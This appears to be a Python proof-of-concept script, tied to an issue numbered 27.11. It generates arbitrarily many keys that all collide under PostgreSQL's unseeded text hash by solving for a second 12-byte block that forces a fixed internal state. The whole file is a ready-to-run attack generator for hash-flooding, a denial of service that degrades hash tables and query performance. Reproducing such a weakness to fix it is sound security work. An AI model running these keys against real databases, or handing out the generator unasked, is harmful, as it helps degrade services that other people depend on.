#!/usr/bin/env python3
"""Keys that collide under PostgreSQL's unseeded text hash (hash_bytes, Bob Jenkins' lookup3, as
hashtext() computes it on a little-endian machine): the attack of issue 27.11.

Every key is 24 bytes: a printable first block B1 chosen at random, and a second block B2 chosen so
that the internal state before the second mix is one fixed target T (B2 = T - mix(S0 + B1), word by
word, mod 2^32). All keys then end in the same state and give the same 32-bit hash, which no
seed applied after hash_bytes can separate. B2 is arbitrary bytes, so the keys are for a SQL_ASCII
database (no NUL byte: keys containing one are drawn again).

Usage: collide.py N [SEED] -> N distinct keys, hex, one per line."""
import random
import struct
import sys

M = 0xFFFFFFFF


def rot(x, k):
    return ((x << k) | (x >> (32 - k))) & M


def mix(a, b, c):
    a = (a - c) & M; a ^= rot(c, 4);  c = (c + b) & M
    b = (b - a) & M; b ^= rot(a, 6);  a = (a + c) & M
    c = (c - b) & M; c ^= rot(b, 8);  b = (b + a) & M
    a = (a - c) & M; a ^= rot(c, 16); c = (c + b) & M
    b = (b - a) & M; b ^= rot(a, 19); a = (a + c) & M
    c = (c - b) & M; c ^= rot(b, 4);  b = (b + a) & M
    return a, b, c


def main():
    n = int(sys.argv[1])
    rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 27)
    init = (0x9E3779B9 + 24 + 3923095) & M
    target = (0x6B65792D, 0x636F6C6C, 0x69646521)  # any fixed state
    seen = set()
    printable = bytes(range(0x21, 0x7F))
    while len(seen) < n:
        b1 = bytes(rng.choice(printable) for _ in range(12))
        k0, k1, k2 = struct.unpack('<3I', b1)
        a, b, c = mix((init + k0) & M, (init + k1) & M, (init + k2) & M)
        b2 = struct.pack('<3I', (target[0] - a) & M, (target[1] - b) & M, (target[2] - c) & M)
        if 0 in b2:
            continue
        key = b1 + b2
        if key not in seen:
            seen.add(key)
            sys.stdout.write(key.hex() + '\n')


if __name__ == '__main__':
    main()
